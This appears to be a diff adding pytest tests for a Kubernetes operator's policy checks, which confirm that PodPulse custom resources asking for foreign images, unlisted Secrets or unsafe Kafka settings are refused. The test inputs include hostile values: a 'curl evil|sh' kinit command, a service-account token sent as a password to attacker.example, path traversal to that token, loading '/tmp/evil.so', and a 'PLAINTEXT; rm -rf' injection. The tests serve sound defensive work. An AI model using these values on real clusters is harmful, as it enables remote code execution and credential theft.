@@ -1,0 +1,167 @@
+"""crds/policy.py: what a custom resource may ask of the operator, from the operator's configuration.
+
+An attacker who may create PodPulse resources, but not pods, tries to run an image of their own,
+to read a Secret they may not, to send the service-account token as a database password, and to
+load code into librdkafka. Each is refused with a status naming the field and the value.
+"""
+
+import pytest
+
+from crds import policy
+from crds import reconcile as rc
+
+NOW = "2026-11-28T07:00:00Z"
+TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+
+
+def stream_with(example, **change):
+    return example("AirPodsDataStream", **change)
+
+
+def evil_password_file(example):
+    cr = example("AirPodsDataStream")
+    cr["spec"]["storage"]["backends"]["core"].update(url="oracle://podpulse@attacker.example:1521/x",
+                                                     password_file=TOKEN)
+    del cr["spec"]["storage"]["backends"]["core"]["password_env"]
+    return cr
+
+
+ATTACKS = {
+    "image": (lambda ex: stream_with(ex, image="evil/x:2.60.0"), "spec.image 'evil/x:2.60.0'"),
+    "envFrom Secret": (lambda ex: stream_with(ex, credentialsSecret="cluster-admin-token"),
+                       "spec.credentialsSecret 'cluster-admin-token'"),
+    "volume Secret": (lambda ex: stream_with(ex, kafkaConfigSecret={"name": "other-team-kafka"}),
+                      "spec.kafkaConfigSecret.name 'other-team-kafka'"),
+    "password_file": (evil_password_file, f"spec.storage.backends.core.password_file '{TOKEN}'"),
+    "password_env of the pod": (
+        lambda ex: stream_with(ex, storage={**ex("AirPodsDataStream")["spec"]["storage"], "backends": {
+            **ex("AirPodsDataStream")["spec"]["storage"]["backends"],
+            "core": {"type": "oracle", "url": "oracle://x@attacker.example:1521/x", "password_env": "RAY_AUTH_TOKEN"}}}),
+        "spec.storage.backends.core.password_env 'RAY_AUTH_TOKEN'"),
+    "plugin.library.paths": (lambda ex: stream_with(ex, kafka={"plugin.library.paths": "/tmp/evil.so"}),
+                             "spec.kafka 'plugin.library.paths'"),
+    "sasl.kerberos.kinit.cmd": (lambda ex: stream_with(ex, kafka={"sasl.kerberos.kinit.cmd": "curl evil|sh"}),
+                                "spec.kafka 'sasl.kerberos.kinit.cmd'"),
+    "ssl.engine.location": (lambda ex: stream_with(ex, kafka={"ssl.engine.location": "/tmp/engine.so"}),
+                            "spec.kafka 'ssl.engine.location'"),
+    "oauthbearer endpoint": (lambda ex: stream_with(ex, kafka={"sasl.oauthbearer.token.endpoint.url": "https://x"}),
+                             "spec.kafka 'sasl.oauthbearer.token.endpoint.url'"),
+    "ssl file outside the Secret": (lambda ex: stream_with(ex, kafka={"ssl.key.location": TOKEN}),
+                                    f"spec.kafka 'ssl.key.location': '{TOKEN}'"),
+    "ssl file escaping the Secret": (
+        lambda ex: stream_with(ex, kafka={"ssl.ca.location": "/etc/podpulse/kafka/../../../" + TOKEN[1:]}),
+        "spec.kafka 'ssl.ca.location'"),
+    "migration image": (lambda ex: ex("OracleDBSchemaManager", image="registry.evil/podpulse:2.60.0"),
+                        "spec.image 'registry.evil/podpulse:2.60.0'"),
+    "migration Secret": (lambda ex: ex("OracleDBSchemaManager", connectionSecret={"name": "kube-root-ca"}),
+                         "spec.connectionSecret.name 'kube-root-ca'"),
+}
+
+
+def children(cr, pol=rc.DEFAULT_POLICY, labels=None):
+    of = rc.stream_children if cr["kind"] == "AirPodsDataStream" else rc.schema_children
+    return of(cr, pol, labels)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attackers_resource_is_refused_naming_the_field_and_value(example, validate_cr, attack):
+    make, named = ATTACKS[attack]
+    cr = make(example)
+    with pytest.raises(rc.Refused) as refused:
+        children(cr)
+    assert named in str(refused.value)
+    status = rc.invalid_status(cr, refused.value, NOW)
+    (ready,) = status["conditions"]
+    assert (status["phase"], ready["status"], ready["reason"]) == ("Refused", "False", "NotAllowed")
+    assert named in ready["message"]
+    validate_cr({**example(cr["kind"]), "status": status})  # the CRD admits the Refused phase
+
+
+@pytest.mark.parametrize("kind", ["AirPodsDataStream", "OracleDBSchemaManager"])
+def test_the_examples_are_accepted_by_the_default_policy(example, kind):
+    assert children(example(kind))
+
+
+def test_every_refusal_is_named_at_once(example):
+    cr = stream_with(example, image="evil/x", kafka={"plugin.library.paths": "x", "client.id": "ok"})
+    with pytest.raises(rc.Refused, match=r"spec.image 'evil/x'.*; spec.kafka 'plugin.library.paths'"):
+        children(cr)
+
+
+@pytest.mark.parametrize("image, allowed", [
+    ("podpulse:2.60.0-py311-abc", True), ("podpulse@sha256:" + "0" * 64, True), ("podpulse", True),
+    ("podpulse-evil:2.60.0", False), ("podpulse.evil.example/podpulse:2.60.0", False), ("evil/podpulse:2.60.0", False),
+    ("docker.io/library/podpulse:2.60.0", False),  # the same image in another spelling: list it to allow it
+])
+def test_images_default_to_the_operators_own_repository(image, allowed):
+    assert rc.DEFAULT_POLICY.allows_image(image) is allowed
+
+
+def test_allowed_images_are_repositories_or_prefixes_ending_in_a_slash():
+    pol = rc.Policy(image="podpulse:2.60.0-py311", images=("registry.example.com/podpulse/", "podpulse"))
+    assert pol.allows_image("registry.example.com/podpulse/podpulse:2.60.0-py311-0.1.0")
+    assert pol.allows_image("registry.example.com/podpulse/tools/x:1")
+    assert not pol.allows_image("registry.example.com/podpulse-evil/x:1")
+    assert not pol.allows_image("registry.example.com/podpulsex:1")
+    assert pol.allows_image("podpulse:2.60.0")
+
+
+def test_the_policy_comes_from_the_operators_environment():
+    env = {"PODPULSE_ALLOWED_IMAGES": "registry.example.com/podpulse/, podpulse",
+           "PODPULSE_ALLOWED_SECRETS": "kafka-a,db-b", "PODPULSE_ALLOWED_SECRET_LABEL": "team=data"}
+    pol = rc.Policy.from_env(env, "registry.example.com/podpulse/podpulse:2.60.0-py311")
+    assert pol.images == ("registry.example.com/podpulse/", "podpulse")
+    assert pol.secrets == {"kafka-a", "db-b"} and pol.secret_label == "team=data"
+    default = rc.Policy.from_env({}, "registry.example.com/podpulse/podpulse:2.60.0-py311")
+    assert default.images == () and default.allows_image("registry.example.com/podpulse/podpulse:other")
+    assert not default.allows_image("podpulse:2.60.0")
+    assert default.secrets == policy.DEFAULT_SECRETS and default.secret_label == "podpulse.io/allowed=true"
+    strict = rc.Policy.from_env({"PODPULSE_ALLOWED_SECRETS": "", "PODPULSE_ALLOWED_SECRET_LABEL": ""}, "podpulse")
+    assert strict.secrets == frozenset() and not strict.allows_secret("podpulse-credentials", {"x": "y"})
+    with pytest.raises(AttributeError):
+        strict.images = ("evil/",)  # frozen: read once at start
+
+
+def test_a_secret_is_allowed_by_name_or_by_the_label(example):
+    cr = stream_with(example, credentialsSecret="team-db")
+    assert rc.DEFAULT_POLICY.unlisted(rc.secret_refs(cr).values()) == ["team-db"]  # the operator reads its labels
+    with pytest.raises(rc.Refused, match="label it podpulse.io/allowed=true"):
+        children(cr, labels={"team-db": {"podpulse.io/allowed": "false"}})
+    with pytest.raises(rc.Refused, match="team-db"):
+        children(cr, labels={"team-db": None})  # no such Secret
+    assert children(cr, labels={"team-db": {"podpulse.io/allowed": "true"}})
+    by_name = rc.Policy(image=rc.DEFAULT_IMAGE, secrets=frozenset({"team-db", "podpulse-kafka"}), secret_label="")
+    assert by_name.unlisted(["team-db", "other"]) == []  # no label admits: nothing to look up
+    assert children(cr, by_name)
+    with pytest.raises(rc.Refused, match=r"PODPULSE_ALLOWED_SECRETS\)"):
+        children(stream_with(example, credentialsSecret="other"), by_name)
+
+
+@pytest.mark.parametrize("settings", [
+    {"compression.type": "lz4"},
+    {"security.protocol": "SASL_SSL", "sasl.mechanism": "SCRAM-SHA-512", "client.id": "podpulse-au"},
+    {"session.timeout.ms": "45000", "request.timeout.ms": "30000", "socket.timeout.ms": "60000",
+     "message.timeout.ms": "300000", "fetch.max.bytes": "52428800", "batch.size": "1000000"},
+    {"ssl.ca.location": "/etc/podpulse/kafka/ca.crt", "ssl.certificate.location": "/etc/podpulse/kafka/tls.crt",
+     "ssl.key.location": "/etc/podpulse/kafka/tls.key"},
+])
+def test_allowed_kafka_settings_pass(example, settings):
+    assert children(stream_with(example, kafka=settings))
+
+
+@pytest.mark.parametrize("settings, message", [
+    ({"security.protocol": "PLAINTEXT; rm -rf"}, "value 'PLAINTEXT; rm -rf'"),
+    ({"session.timeout.ms": "soon"}, "value 'soon'"),
+    ({"enable.auto.commit": "true"}, "not an allowed Kafka setting"),  # podpulse ingest commits itself
+    ({"sasl.username": "someone"}, "not an allowed Kafka setting"),  # credentials: kafkaConfigSecret
+])
+def test_other_kafka_settings_and_values_are_refused(example, settings, message):
+    with pytest.raises(rc.Refused, match=message):
+        children(stream_with(example, kafka=settings))
+
+
+def test_ssl_files_need_a_mounted_kafka_secret(example):
+    cr = stream_with(example, kafka={"ssl.ca.location": "/etc/podpulse/kafka/ca.crt"})
+    del cr["spec"]["kafkaConfigSecret"]
+    with pytest.raises(rc.Refused, match="none is mounted"):
+        children(cr)
